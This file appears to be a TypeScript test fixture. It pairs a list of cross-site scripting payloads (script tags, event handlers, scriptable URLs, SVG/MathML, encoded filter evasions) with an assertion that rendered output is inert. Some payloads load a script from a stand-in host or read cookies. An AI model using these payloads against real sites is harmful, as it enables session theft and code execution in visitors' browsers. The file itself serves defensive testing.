/**
 * Cross-site scripting payloads for every place the site shows text it did not write (CMS content,
 * server messages and names, what a visitor types): script tags, event handlers, `javascript:`,
 * `vbscript:` and `data:` URLs, SVG and MathML, and encoded variants (entities, percent-encoding,
 * control characters and mixed case in the scheme), after the OWASP filter-evasion cheat sheet.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(document.cookie)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR="alert(String.fromCharCode(88,83,83))">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<marquee onstart=alert(1)>x</marquee>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '<a href="#" onclick="alert(1)">click</a>',
  // javascript:, vbscript: and data: URLs
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://%0Aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // Encoded variants
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  'jav&#x09;ascript:alert(1)',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // Template and style injection
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
];

/** Elements that run, embed or redirect to code; none of them may come from text the site shows. */
const SCRIPTABLE_ELEMENTS = 'script, iframe, frame, object, embed, base, meta, link, style, math';

/** Attributes whose value a browser follows as a URL. */
const URL_ATTRIBUTES = ['href', 'xlink:href', 'src', 'action', 'formaction', 'data'];

/** `javascript:`, `vbscript:` or `data:` once browsers' forgiving URL parsing is applied. */
const isScriptableUrl = (value: string): boolean =>
  /^(?:javascript|vbscript|data):/i.test(
    [...value].filter((character) => (character.codePointAt(0) ?? 0) > 0x20).join(''),
  );

/**
 * Fails when `container` holds anything the payloads could have made: a script-running element, an
 * event-handler or `srcdoc` attribute, or a link or frame to a scriptable URL.
 */
export function expectInertDom(container: Element): void {
  expect(container.querySelectorAll(SCRIPTABLE_ELEMENTS)).toHaveLength(0);
  for (const element of [container, ...container.querySelectorAll('*')]) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^srcdoc$/i);
      const followed = URL_ATTRIBUTES.includes(name.toLowerCase()) && element.tagName !== 'IMG';
      if (followed) expect(isScriptableUrl(value), `${element.tagName} ${name}="${value}"`).toBe(false);
    }
  }
}
